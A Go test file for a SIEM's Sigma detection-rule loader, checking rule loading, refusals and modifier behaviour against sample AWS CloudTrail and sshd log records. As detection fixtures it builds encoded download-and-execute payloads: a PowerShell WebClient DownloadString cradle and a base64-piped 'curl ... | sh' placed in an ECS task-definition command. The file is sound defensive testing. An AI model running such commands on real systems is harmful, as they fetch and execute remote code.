package detect

import (
	"encoding/base64"
	"encoding/json"
	"maps"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"unicode/utf16"

	"github.com/orgsiem/orgsiem/internal/ecs"
	"github.com/orgsiem/orgsiem/internal/logs"
)

// ctRecord builds one CloudTrail record (CloudTrail UG, "CloudTrail record
// contents") of an IAM user's API call; set replaces or adds members by
// dotted path (a nil value removes one).
func ctRecord(t *testing.T, set map[string]any) []byte {
	t.Helper()
	rec := map[string]any{
		"eventVersion": "1.09",
		"userIdentity": map[string]any{
			"type": "IAMUser", "principalId": "AIDAEXAMPLEPRINCIPAL1", "arn": "arn:aws:iam::111122223333:user/alice",
			"accountId": "111122223333", "accessKeyId": "AKIAEXAMPLEKEY000001", "userName": "alice",
		},
		"eventTime":          "2024-05-14T09:12:33Z",
		"eventSource":        "iam.amazonaws.com",
		"eventName":          "ListUsers",
		"awsRegion":          "us-east-1",
		"sourceIPAddress":    "203.0.113.10",
		"userAgent":          "aws-cli/2.15.40 Python/3.11.8 Linux/6.1 exe/x86_64.amzn.2023",
		"requestParameters":  nil,
		"responseElements":   nil,
		"requestID":          "6f1c2d43-0a1b-4c5d-8e9f-0a1b2c3d4e5f",
		"eventID":            "0d4c2c55-9d7b-4e0b-8d51-3f6a1b2c3d4e",
		"readOnly":           false,
		"eventType":          "AwsApiCall",
		"managementEvent":    true,
		"recipientAccountId": "111122223333",
		"eventCategory":      "Management",
	}
	for _, p := range slices.Sorted(maps.Keys(set)) {
		keys := strings.Split(p, ".")
		m := rec
		for _, k := range keys[:len(keys)-1] {
			next, ok := m[k].(map[string]any)
			if !ok {
				next = map[string]any{}
				m[k] = next
			}
			m = next
		}
		if v := set[p]; v == nil {
			delete(m, keys[len(keys)-1])
		} else {
			m[keys[len(keys)-1]] = v
		}
	}
	raw, err := json.Marshal(rec)
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

// fires normalizes raw as CloudTrail and reports whether rule r alone
// raises an alert on it.
func fires(t *testing.T, r *Rule, raw []byte) bool {
	t.Helper()
	docs, err := logs.NormalizeRecord("cloudtrail", raw)
	if err != nil {
		t.Fatalf("event does not normalize: %v\n%s", err, raw)
	}
	m := newMatcher([]*Rule{r})
	n := 0
	for i := range docs {
		m.Match(&docs[i], func(Alert) { n++ })
	}
	m.Flush(func(Alert) { n++ })
	return n > 0
}

func utf16le(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

// TestSigmaStyleRulesLoadAndFire loads testdata/sigma, rules written here
// in SigmaHQ's style (UUID ids that are not file names, unquoted and
// slash dates, related, modified, fields, custom attributes, status
// deprecated and unsupported, no tests), with zero refusals, and checks
// each fires on a positive event and not on a negative one.
func TestSigmaStyleRulesLoadAndFire(t *testing.T) {
	cat, refused, err := LoadSigmaDir("testdata/sigma", nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range refused {
		t.Errorf("refused: %v", r)
	}
	psDownload := base64.StdEncoding.EncodeToString([]byte(utf16le("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')")))
	sgRule := func(cidr string, from, to int) map[string]any {
		return map[string]any{"eventSource": "ec2.amazonaws.com", "eventName": "AuthorizeSecurityGroupIngress",
			"requestParameters": map[string]any{"groupId": "sg-0123456789abcdef0", "ipPermissions": map[string]any{"items": []any{
				map[string]any{"ipProtocol": "tcp", "fromPort": from, "toPort": to, "groups": map[string]any{},
					"ipRanges": map[string]any{"items": []any{map[string]any{"cidrIp": cidr}}}, "ipv6Ranges": map[string]any{}, "prefixListIds": map[string]any{}},
			}}}}
	}
	taskDef := func(command ...string) map[string]any {
		return map[string]any{"eventSource": "ecs.amazonaws.com", "eventName": "RegisterTaskDefinition",
			"requestParameters": map[string]any{"family": "web", "containerDefinitions": []any{
				map[string]any{"name": "app", "image": "public.ecr.aws/docker/library/alpine:3", "command": command},
			}}}
	}
	console := func(mfa, arn string) map[string]any {
		return map[string]any{"eventSource": "signin.amazonaws.com", "eventName": "ConsoleLogin", "eventType": "AwsConsoleSignIn",
			"userIdentity.arn": arn, "responseElements": map[string]any{"ConsoleLogin": "Success"},
			"additionalEventData": map[string]any{"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": mfa}}
	}
	root := map[string]any{"userIdentity": map[string]any{"type": "Root", "principalId": "111122223333",
		"arn": "arn:aws:iam::111122223333:root", "accountId": "111122223333"}}
	with := func(base map[string]any, kv ...any) map[string]any {
		out := maps.Clone(base)
		for i := 0; i+1 < len(kv); i += 2 {
			out[kv[i].(string)] = kv[i+1]
		}
		return out
	}
	cases := map[string]struct{ pos, neg map[string]any }{
		"a4a9bfb0-f7f5-4dd3-90d8-8a8caabdc247": { // fieldref keyword vs flat_object
			pos: map[string]any{"eventName": "CreateAccessKey", "requestParameters": map[string]any{"userName": "bob"}},
			neg: map[string]any{"eventName": "CreateAccessKey", "requestParameters": map[string]any{"userName": "alice"}},
		},
		"36e8df6c-9dbc-4a49-a043-1ab14715a2cf": { // fieldref|neq
			pos: map[string]any{"eventName": "UpdateLoginProfile", "requestParameters": map[string]any{"userName": "bob", "passwordResetRequired": false}},
			neg: map[string]any{"eventName": "UpdateLoginProfile", "requestParameters": map[string]any{"userName": "alice", "passwordResetRequired": false}},
		},
		"03c70c6a-8d4d-465b-be46-cf29388b065b": { // cased, contains filter
			pos: console("No", "arn:aws:iam::111122223333:user/alice"),
			neg: console("No", "arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_Admin_0123456789abcdef/alice"),
		},
		"d6189b2d-6bd6-41cf-b0b5-452675917e21": { // base64offset, wide, windash
			pos: taskDef("powershell.exe -NoProfile /EncodedCommand " + psDownload),
			neg: taskDef("powershell.exe -NoProfile -EncodedCommand " + base64.StdEncoding.EncodeToString([]byte(utf16le("Get-Date")))),
		},
		"afa26be2-8e33-4ff5-80eb-d21e3ab1e5f7": { // numeric lte/gte on flat_object, cidr on a keyword
			pos: sgRule("0.0.0.0/0", 22, 22),
			neg: with(sgRule("0.0.0.0/0", 22, 22), "sourceIPAddress", "10.20.30.40"),
		},
		"5bf3ae3e-3e05-422e-a63e-812ba1afad10": { // time modifier, re|i
			pos: with(root, "eventTime", "2024-05-14T03:12:33Z", "eventName", "ListBuckets", "eventSource", "s3.amazonaws.com", "userAgent", "Python-Requests/2.31"),
			neg: with(root, "eventTime", "2024-05-14T13:12:33Z", "eventName", "ListBuckets", "eventSource", "s3.amazonaws.com", "userAgent", "Python-Requests/2.31"),
		},
		"12945b3d-1ce9-4ab1-a2af-e4651efba02a": { // gte on a number in requestParameters
			pos: map[string]any{"eventSource": "sts.amazonaws.com", "eventName": "AssumeRole",
				"requestParameters": map[string]any{"roleArn": "arn:aws:iam::111122223333:role/ops", "roleSessionName": "s", "durationSeconds": 43200}},
			neg: map[string]any{"eventSource": "sts.amazonaws.com", "eventName": "AssumeRole",
				"requestParameters": map[string]any{"roleArn": "arn:aws:iam::111122223333:role/ops", "roleSessionName": "s", "durationSeconds": 3600}},
		},
		"8e53fca5-96d6-40d5-90aa-65fbb752e6e7": { // condition list, all of, wildcard filter
			pos: map[string]any{"eventSource": "cloudtrail.amazonaws.com", "eventName": "StopLogging",
				"requestParameters": map[string]any{"name": "arn:aws:cloudtrail:us-east-1:111122223333:trail/org"}},
			neg: map[string]any{"eventSource": "cloudtrail.amazonaws.com", "eventName": "StopLogging", "errorCode": "AccessDenied",
				"errorMessage": "User is not authorized", "requestParameters": map[string]any{"name": "arn:aws:cloudtrail:us-east-1:111122223333:trail/org"}},
		},
		"08a76249-e4f9-4da1-b8f8-ac81e91f1036": { // keywords with |all
			pos: map[string]any{"userAgent": "aws-cli/2.15.40 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024"},
			neg: map[string]any{"userAgent": "aws-cli/2.15.40 Python/3.11.8 Linux/6.1 exe/x86_64.amzn.2023"},
		},
		"f4f88dfa-93db-4909-a3d8-c8fa8e5f77c8": { // expand from parameters
			pos: with(root, "eventName", "ConsoleLogin", "eventSource", "signin.amazonaws.com", "sourceIPAddress", "203.0.113.10"),
			neg: with(root, "eventName", "ConsoleLogin", "eventSource", "signin.amazonaws.com", "sourceIPAddress", "198.51.100.20"),
		},
	}
	if cat.Len() != len(cases) {
		t.Errorf("%d rules loaded, want %d", cat.Len(), len(cases))
	}
	for id, tc := range cases {
		r := cat.Rule(id)
		if r == nil {
			t.Errorf("rule %s did not load", id)
			continue
		}
		t.Run(r.Title, func(t *testing.T) {
			if !fires(t, r, ctRecord(t, tc.pos)) {
				t.Errorf("does not fire on the positive event\n%s", ctRecord(t, tc.pos))
			}
			if fires(t, r, ctRecord(t, tc.neg)) {
				t.Errorf("fires on the negative event\n%s", ctRecord(t, tc.neg))
			}
		})
	}
	// The shell variant of the encoded-command rule: base64offset finds
	// "curl http" wherever it sits in the encoded script.
	if r := cat.Rule("d6189b2d-6bd6-41cf-b0b5-452675917e21"); r != nil {
		for _, prefix := range []string{"", "#", "##", "###"} {
			enc := base64.StdEncoding.EncodeToString([]byte(prefix + "set -e; curl http://198.51.100.7/x | sh"))
			if !fires(t, r, ctRecord(t, taskDef("sh", "-c", "echo "+enc+" | base64 -d | sh"))) {
				t.Errorf("base64offset misses the payload after %d bytes", len(prefix))
			}
		}
	}
	// Metadata as written.
	if r := cat.Rule("a4a9bfb0-f7f5-4dd3-90d8-8a8caabdc247"); r != nil {
		if r.Date != "2024-03-12" || r.Modified != "2024/05/02" || len(r.Related) != 1 || r.Related[0].Type != "derived" ||
			len(r.Fields) != 2 || r.File != "testdata/sigma/aws/aws_iam_access_key_created_for_other_user.yml" {
			t.Errorf("metadata %+v", r)
		}
	}
	if r := cat.Rule("12945b3d-1ce9-4ab1-a2af-e4651efba02a"); r != nil && r.Status != "deprecated" {
		t.Errorf("status %q", r.Status)
	}
}

// TestSigmaRefusals: rules orgsiem cannot use are refused one by one, each
// with its kind and the construct, while the others load.
func TestSigmaRefusals(t *testing.T) {
	head := "title: T\nlogsource:\n    product: aws\n    service: cloudtrail\n"
	fsys := fstest.MapFS{
		"r/good.yml": {Data: []byte(head + "detection:\n    sel:\n        eventName: StopLogging\n    condition: sel\n")},
		"r/aggregation.yml": {Data: []byte(head + "detection:\n    sel:\n        eventName: GetObject\n" +
			"    condition: sel | count() by userIdentity.arn > 100\n")},
		"r/timeframe.yml": {Data: []byte(head + "detection:\n    sel:\n        eventName: GetObject\n    timeframe: 5m\n    condition: sel\n")},
		"r/windows.yml": {Data: []byte("title: W\nlogsource:\n    product: windows\n    category: process_creation\n" +
			"detection:\n    sel:\n        Image|endswith: '\\whoami.exe'\n    condition: sel\n")},
		"r/typo.yml":        {Data: []byte(head + "detection:\n    sel:\n        eventname: StopLogging\n    condition: sel\n")},
		"r/placeholder.yml": {Data: []byte(head + "detection:\n    sel:\n        sourceIPAddress|expand: '%Workstations%'\n    condition: sel\n")},
		"r/correlation.yml": {Data: []byte(head + "detection:\n    sel:\n        eventName: A\n    condition: sel\n---\n" +
			"title: C\ncorrelation:\n    type: event_count\n")},
		"r/meta-filter.yml": {Data: []byte("title: F\nlogsource:\n    product: aws\n    service: cloudtrail\nfilter:\n    rules:\n        - a4a9bfb0-f7f5-4dd3-90d8-8a8caabdc247\n    sel:\n        userIdentity.userName: ops\n    condition: not sel\n")},
		"r/badcond.yml":     {Data: []byte(head + "detection:\n    sel:\n        eventName: A\n    condition: sel and\n")},
	}
	cat, refused, err := LoadSigma(fsys, "r", nil)
	if err != nil {
		t.Fatal(err)
	}
	if cat.Len() != 1 || cat.Rule("good") == nil {
		t.Errorf("loaded %v, want only good (the file name stands in for a missing id)", cat.Rules())
	}
	want := map[string]struct {
		kind ErrorKind
		line int
		text string
	}{
		"r/aggregation.yml": {Unsupported, 8, `"| count() by userIdentity.arn > 100"`},
		"r/timeframe.yml":   {Unsupported, 8, "timeframe"},
		"r/windows.yml":     {OtherLogSource, 3, "{product: windows, category: process_creation}"},
		"r/typo.yml":        {UnknownField, 7, `"eventname": CloudTrail records have no such field`},
		"r/placeholder.yml": {Unsupported, 7, "placeholder %Workstations% has no values (give them with --param Workstations=v1,v2"},
		"r/correlation.yml": {Unsupported, 10, "correlation rules are not supported"},
		"r/badcond.yml":     {Invalid, 8, "condition ends early"},
		"r/meta-filter.yml": {Unsupported, 5, "a Sigma filter document"},
	}
	got := map[string]bool{}
	for _, r := range refused {
		got[r.File] = true
		w, ok := want[r.File]
		if !ok {
			t.Errorf("unexpected refusal %v", r)
			continue
		}
		if r.Kind != w.kind || r.Line != w.line || !strings.Contains(r.Error(), w.text) {
			t.Errorf("%s: got kind %v line %d %q; want %v line %d containing %q", r.File, r.Kind, r.Line, r.Error(), w.kind, w.line, w.text)
		}
	}
	for f := range want {
		if !got[f] {
			t.Errorf("%s was not refused", f)
		}
	}
	// Values given for the placeholder (--param) resolve it.
	withParam, refused, err := LoadSigma(fstest.MapFS{"r/placeholder.yml": fsys["r/placeholder.yml"]}, "r",
		map[string][]string{"Workstations": {"10.1.*"}})
	if err != nil || len(refused) > 0 || withParam.Rule("placeholder") == nil {
		t.Errorf("placeholder with --param values: %v %v", err, refused)
	} else if got := withParam.Rule("placeholder").Parameters["Workstations"]; len(got) != 1 || got[0] != "10.1.*" {
		t.Errorf("parameters %v", got)
	}
	// The house rules still apply to Load (the built-in catalog's loader).
	if _, err := Load(fstest.MapFS{"r/good.yml": fsys["r/good.yml"]}, "r"); err == nil ||
		!strings.Contains(err.Error(), `missing required key "license"`) || !strings.Contains(err.Error(), `missing required key "tests"`) {
		t.Errorf("house rules not enforced: %v", err)
	}
}

// TestModifierConformance checks each value modifier against the text of
// the Sigma modifiers appendix (sigma-appendix-modifiers.md v2.1.0); the
// quoted sentence is the case's name.
func TestModifierConformance(t *testing.T) {
	doc := func(set map[string]any) *ecs.Document {
		docs, err := logs.NormalizeRecord("cloudtrail", ctRecord(t, set))
		if err != nil || len(docs) != 1 {
			t.Fatal(err)
		}
		return &docs[0]
	}
	cases := []struct {
		spec, det string
		set       map[string]any
		want      bool
	}{
		{"all: lists of values are linked with AND", "s: {userAgent|contains|all: [aws-cli, Linux]}", nil, true},
		{"all: every value must match", "s: {userAgent|contains|all: [aws-cli, Windows]}", nil, false},
		{"startswith: the value is expected at the beginning", "s: {userAgent|startswith: AWS-CLI/}", nil, true},
		{"endswith: the value is expected at the end", "s: {userAgent|endswith: amzn.2023}", nil, true},
		{"contains: puts * wildcards around the values", "s: {userAgent|contains: python/3}", nil, true},
		{"exists: a certain field has to exist", "s: {errorCode|exists: true}", nil, false},
		{"exists: or must not exist", "s: {errorCode|exists: false}", nil, true},
		{"exists: only verifies the presence of a field, not its value, be it empty or null", "s: {responseElements|exists: true}", nil, true},
		{"exists: an empty value is present", "s: {requestParameters.tags|exists: true}", map[string]any{"requestParameters": map[string]any{"tags": []any{}}}, true},
		{"exists: a member below a null is absent", "s: {responseElements.accessKey|exists: true}", nil, false},
		{"cased: values are applied case sensitively", "s: {eventName|cased: listusers}", nil, false},
		{"default Sigma behavior is case-insensitive", "s: {eventName: listusers}", nil, true},
		{"neq: the field is different from the specified values", "s: {eventName|neq: [GetUser, ListRoles]}", nil, true},
		{"neq: equal to one value is not different", "s: {eventName|neq: [GetUser, ListUsers]}", nil, false},
		{"windash: converts - and / interchangeably", "s: {userAgent|windash|contains: ' exe-x86_64'}", map[string]any{"userAgent": "tool exe/x86_64"}, true},
		{"windash: en dash among the permutations", "s: {userAgent|windash|contains: ' -v'}", map[string]any{"userAgent": "tool \u2013v"}, true},
		{"re: case-sensitive by default", "s: {eventName|re: '^listusers$'}", nil, false},
		{"re i: case-insensitive matching", "s: {eventName|re|i: '^listusers$'}", nil, true},
		{"re m: ^/$ match the start/end of line", "s: {userAgent|re|m: '^second$'}", map[string]any{"userAgent": "first\nsecond\nthird"}, true},
		{"re without m: ^ is the start of text", "s: {userAgent|re: '^second$'}", map[string]any{"userAgent": "first\nsecond\nthird"}, false},
		{"re s: dot matches the newline", "s: {userAgent|re|s: 'first.second'}", map[string]any{"userAgent": "first\nsecond"}, true},
		{"re without s: dot does not match the newline", "s: {userAgent|re: 'first.second'}", map[string]any{"userAgent": "first\nsecond"}, false},
		{"base64: the value is encoded with Base64", "s: {requestParameters.blob|base64: 'hello world'}", map[string]any{"requestParameters": map[string]any{"blob": "aGVsbG8gd29ybGQ="}}, true},
		{"base64offset: the value at any offset", "s: {requestParameters.blob|base64offset|contains: 'hello'}", map[string]any{"requestParameters": map[string]any{"blob": base64.StdEncoding.EncodeToString([]byte("xxhello there"))}}, true},
		{"utf16le then base64: cmd > 63 00 6d 00 64 00", "s: {requestParameters.blob|utf16le|base64: cmd}", map[string]any{"requestParameters": map[string]any{"blob": base64.StdEncoding.EncodeToString([]byte("c\x00m\x00d\x00"))}}, true},
		{"wide: an alias for utf16le", "s: {requestParameters.blob|wide|base64: cmd}", map[string]any{"requestParameters": map[string]any{"blob": base64.StdEncoding.EncodeToString([]byte("c\x00m\x00d\x00"))}}, true},
		{"utf16be: cmd > 00 63 00 6d 00 64", "s: {requestParameters.blob|utf16be|base64: cmd}", map[string]any{"requestParameters": map[string]any{"blob": base64.StdEncoding.EncodeToString([]byte("\x00c\x00m\x00d"))}}, true},
		{"utf16: prepends a byte order mark, cmd > FF FE 63 00 6d 00 64 00", "s: {requestParameters.blob|utf16|base64: cmd}", map[string]any{"requestParameters": map[string]any{"blob": base64.StdEncoding.EncodeToString([]byte("\xff\xfec\x00m\x00d\x00"))}}, true},
		{"lt: field is less than the value", "s: {requestParameters.durationSeconds|lt: 3600}", map[string]any{"requestParameters": map[string]any{"durationSeconds": 900}}, true},
		{"lte: less or equal", "s: {requestParameters.durationSeconds|lte: 900}", map[string]any{"requestParameters": map[string]any{"durationSeconds": 900}}, true},
		{"gt: greater than", "s: {requestParameters.durationSeconds|gt: 900}", map[string]any{"requestParameters": map[string]any{"durationSeconds": 900}}, false},
		{"gte: greater or equal", "s: {requestParameters.durationSeconds|gte: 900}", map[string]any{"requestParameters": map[string]any{"durationSeconds": 900}}, true},
		{"minute: number between 0 and 59", "s: {eventTime|minute: 12}", nil, true},
		{"hour: number between 0 and 23", "s: {eventTime|hour: 9}", nil, true},
		{"day: number between 1 and 31", "s: {eventTime|day: 14}", nil, true},
		{"week: number between 1 and 52", "s: {eventTime|week: 20}", nil, true},
		{"month: number between 1 and 12", "s: {eventTime|month: 5}", nil, true},
		{"year: number of the year", "s: {eventTime|year|gte: 2025}", nil, false},
		{"cidr: supports IPv4", "s: {sourceIPAddress|cidr: 203.0.113.0/24}", nil, true},
		{"cidr: supports IPv6", "s: {sourceIPAddress|cidr: '2001:db8::/32'}", map[string]any{"sourceIPAddress": "2001:db8::7"}, true},
		{"cidr: a service name is no address", "s: {sourceIPAddress|cidr: 0.0.0.0/0}", map[string]any{"sourceIPAddress": "ec2.amazonaws.com"}, false},
		{"fieldref: compare fields of matched events", "s: {userIdentity.userName|fieldref: requestParameters.userName}", map[string]any{"requestParameters": map[string]any{"userName": "alice"}}, true},
		{"fieldref: different values", "s: {userIdentity.userName|fieldref: requestParameters.userName}", map[string]any{"requestParameters": map[string]any{"userName": "bob"}}, false},
		{"fieldref: can be combined with neq", "s: {requestParameters.userName|fieldref|neq: userIdentity.userName}", map[string]any{"requestParameters": map[string]any{"userName": "bob"}}, true},
	}
	for _, tc := range cases {
		t.Run(tc.spec, func(t *testing.T) {
			r := ruleFrom(t, "cloudtrail", tc.det+"\ncondition: s", nil)
			m := newMatcher([]*Rule{r})
			got := false
			m.Match(doc(tc.set), func(Alert) { got = true })
			if got != tc.want {
				t.Errorf("%s: got %v, want %v", tc.det, got, tc.want)
			}
		})
	}
}

// TestBase64OffsetVariants: "There are three variants for shifts by zero to
// two bytes"; each must occur in the encoding of the value after 0, 1 or 2
// bytes of any content, and none may include characters that depend on the
// bytes around the value.
func TestBase64OffsetVariants(t *testing.T) {
	for _, v := range []string{"a", "ab", "abc", "curl http", "DownloadString"} {
		vars := base64Offsets(v)
		for _, around := range []string{"", "x", "xy", "xyz", "\xff\x00"} {
			for _, after := range []string{"", "Q", "QR", "QRS"} {
				enc := base64.StdEncoding.EncodeToString([]byte(around + v + after))
				found := false
				for _, x := range vars {
					if strings.Contains(enc, x) {
						found = true
					}
				}
				if !found && len(v) >= 3 {
					t.Errorf("%q after %q, before %q: none of %q in %q", v, around, after, vars, enc)
				}
			}
		}
	}
	if got := base64Offsets("hello"); !slices.Equal(got, []string{"aGVsbG", "hlbGxv", "oZWxsb"}) {
		t.Errorf("variants of hello: %q", got)
	}
}

func TestWindashPermutations(t *testing.T) {
	vals, err := encode(lit{kind: litString, s: "-a /b"}, []string{"windash"})
	if err != nil {
		t.Fatal(err)
	}
	if len(vals) != 25 { // two dash positions, five characters each
		t.Errorf("%d permutations, want 25", len(vals))
	}
	if _, err := encode(lit{kind: litString, s: strings.Repeat("-", 8)}, []string{"windash"}); err == nil {
		t.Error("5^8 permutations must be refused")
	}
}

// TestNoDSL: rules using constructs the query compiler cannot express say
// so; every built-in rule still has a faithful query.
func TestNoDSL(t *testing.T) {
	cat, _, err := LoadSigmaDir("testdata/sigma", nil)
	if err != nil {
		t.Fatal(err)
	}
	for id, want := range map[string]string{
		"36e8df6c-9dbc-4a49-a043-1ab14715a2cf": "(neq)",
		"a4a9bfb0-f7f5-4dd3-90d8-8a8caabdc247": "fieldref on a flat_object",
		"5bf3ae3e-3e05-422e-a63e-812ba1afad10": "(hour)",
		"08a76249-e4f9-4da1-b8f8-ac81e91f1036": "keyword search",
		"afa26be2-8e33-4ff5-80eb-d21e3ab1e5f7": "(cidr on a keyword field)",
		"03c70c6a-8d4d-465b-be46-cf29388b065b": "",
	} {
		if r := cat.Rule(id); r == nil || !strings.Contains(r.NoDSL(), want) || (want == "") != (r.NoDSL() == "") {
			t.Errorf("%s: NoDSL %q, want %q", id, r.NoDSL(), want)
		}
	}
	for _, r := range cat.Rules() {
		_ = r.Query() // never panics, whatever the construct
	}
	builtin, err := Builtin()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range builtin.Rules() {
		if s := r.NoDSL(); s != "" {
			t.Errorf("built-in %s: %s", r.ID, s)
		}
	}
}

// TestExpandPlaceholders follows "Placeholders": only |expand values are
// expanded, \% is a plain percent, and a placeholder expands to every value.
func TestExpandPlaceholders(t *testing.T) {
	params := map[string][]string{"name": {"x", "y"}}
	for _, tc := range []struct {
		det, agent string
		want       bool
	}{
		{`s: {userAgent|expand: '\%plain%name%'}`, "%plainy", true},
		{`s: {userAgent|expand: '\%plain%name%'}`, "%plain%name%", false},
		{`s: {userAgent: '%name%'}`, "%name%", true},
		{`s: {userAgent|expand|startswith: 'tool-%name%/'}`, "tool-x/1.0", true},
		{`s: {userAgent|expand|startswith: 'tool-%name%/'}`, "tool-z/1.0", false},
	} {
		p := params
		if !strings.Contains(tc.det, "expand") {
			p = nil
		}
		r := ruleFrom(t, "cloudtrail", tc.det+"\ncondition: s", p)
		docs, err := logs.NormalizeRecord("cloudtrail", ctRecord(t, map[string]any{"userAgent": tc.agent}))
		if err != nil {
			t.Fatal(err)
		}
		got := false
		newMatcher([]*Rule{r}).Match(&docs[0], func(Alert) { got = true })
		if got != tc.want {
			t.Errorf("%s on %q: got %v", tc.det, tc.agent, got)
		}
	}
	if got := splitPlaceholders(`a\%b%c%%d`); len(got) != 3 || got[0].text != "a%b" || !got[1].name || got[1].text != "c" || got[2].text != "%d" {
		t.Errorf("split %+v", got)
	}
}

// TestContainsOnWholeObject: a string test on a whole flat_object field
// (requestParameters|contains) reads the policy document that IAM's
// PutUserPolicy carries as a JSON string (IAM API reference:
// policyDocument is a string) with its quotes as written; \* is a literal
// star ("Escaping").
func TestContainsOnWholeObject(t *testing.T) {
	r := ruleFrom(t, "cloudtrail", `s:
  eventName: PutUserPolicy
  requestParameters|contains|all: ['"Effect":"Allow"', '"Action":"\*"', '"Resource":"\*"']
condition: s`, nil)
	for _, tc := range []struct {
		doc  string
		want bool
	}{
		{`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}`, true},
		{`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"*"}]}`, false},
	} {
		raw := ctRecord(t, map[string]any{"eventName": "PutUserPolicy",
			"requestParameters": map[string]any{"userName": "bob", "policyName": "p", "policyDocument": tc.doc}})
		if got := fires(t, r, raw); got != tc.want {
			t.Errorf("%s: got %v", tc.doc, got)
		}
	}
}

// TestLinuxKeywordRule: a Sigma rule for product linux, service sshd is a
// keyword search over syslog lines orgsiem collects as log type linux.
func TestLinuxKeywordRule(t *testing.T) {
	fsys := fstest.MapFS{"r/ssh.yml": {Data: []byte(`title: SSH Login With A Key From A Listed Address
id: 70f6f0bc-2556-4eca-ac48-8af62c2a693c
status: test
logsource:
    product: linux
    service: sshd
detection:
    keywords:
        - 'Accepted publickey for * from 198.51.100.*'
    condition: keywords
level: low
`)}}
	cat, refused, err := LoadSigma(fsys, "r", nil)
	if err != nil || len(refused) > 0 {
		t.Fatalf("%v %v", err, refused)
	}
	r := cat.Rule("70f6f0bc-2556-4eca-ac48-8af62c2a693c")
	if r.Service != "linux" {
		t.Fatalf("service %q", r.Service)
	}
	for line, want := range map[string]bool{
		"Mar  5 10:00:01 ip-10-0-0-5 sshd[2211]: Accepted publickey for ec2-user from 198.51.100.7 port 50022 ssh2": true,
		"Mar  5 10:00:01 ip-10-0-0-5 sshd[2211]: Accepted publickey for ec2-user from 203.0.113.7 port 50022 ssh2":  false,
	} {
		docs, err := logs.NormalizeRecord("linux", []byte(line))
		if err != nil || len(docs) != 1 {
			t.Fatal(err)
		}
		got := false
		newMatcher([]*Rule{r}).Match(&docs[0], func(Alert) { got = true })
		if got != want {
			t.Errorf("%s: got %v", line, got)
		}
	}
}
